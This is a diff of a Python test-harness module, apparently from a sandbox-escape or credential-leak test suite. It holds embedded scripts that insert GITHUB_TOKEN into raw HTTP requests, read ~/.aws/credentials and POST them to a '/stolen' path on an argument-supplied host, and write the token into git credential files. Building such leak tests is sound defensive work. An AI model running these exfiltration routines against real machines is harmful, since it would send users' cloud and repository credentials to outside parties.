@@ -1,21 +1,24 @@
 """Programs that run inside and do with a secret what must not come off. `ENDED` is what is said after them.
 
-They never hold a canary: what a variable has is put in where a text says TOKEN, and what is searched for is a hash.
+They never hold a canary: what a variable has is put in where a text says TOKEN or the variable's name behind a `$`, and
+what is searched for is a hash.
 """
 
 from __future__ import annotations
 
 ENDED = "came to its end"
-# place, and as JSON pairs of a port and the requests for it, with \r\n spelled out. Prints the answers.
+# place, and as JSON pairs of a port and the requests for it, with \r\n spelled out, and LARGE for 8 MiB. Prints the
+# answers.
 SEND = r"""
 import base64, json, os, socket, sys
 token = os.environ.get("GITHUB_TOKEN", "")
 basic = base64.b64encode(("user:" + token).encode()).decode()
 for port, texts in json.loads(sys.argv[2]):
     for text in texts:
-        request = text.replace("TOKEN", token).replace("BASIC", basic).encode().decode("unicode_escape").encode()
+        text = os.path.expandvars(text).replace("TOKEN", token).replace("BASIC", basic)
+        request = text.encode().decode("unicode_escape").encode().replace(b"LARGE", bytes(8 << 20))
         try:
-            with socket.create_connection((sys.argv[1], port), timeout=5) as ours:
+            with socket.create_connection((sys.argv[1], port), timeout=20) as ours:
                 ours.sendall(request)
                 ours.shutdown(socket.SHUT_WR)  # nobody has to wait for the rest of half a request
                 while True:
@@ -54,13 +57,15 @@ print("began", flush=True)
 content = open(os.environ["HOME"] + "/.aws/credentials", "rb").read()
 head = "POST /stolen HTTP/1.1\r\nHost: %s:%s\r\nContent-Length: %d\r\n\r\n" % (sys.argv[1], sys.argv[2], len(content))
 try:
-    with socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5) as ours:
+    with socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=20) as ours:
         ours.sendall(head.encode() + content)
         ours.recv(100)
 except OSError:
     pass
 time.sleep(float(sys.argv[3]))
 """
+# For the shell, whose words are a program and what that is told.
+USE = 'python3 -c "$@" || exit\n'
 # For the shell: git is told to keep what the variable holds, in the repository and in the home.
 STORE = """
 printf 'protocol=https\\nhost=api.example.test\\nusername=person\\npassword=%s\\n\\n' "$GITHUB_TOKEN" > asked
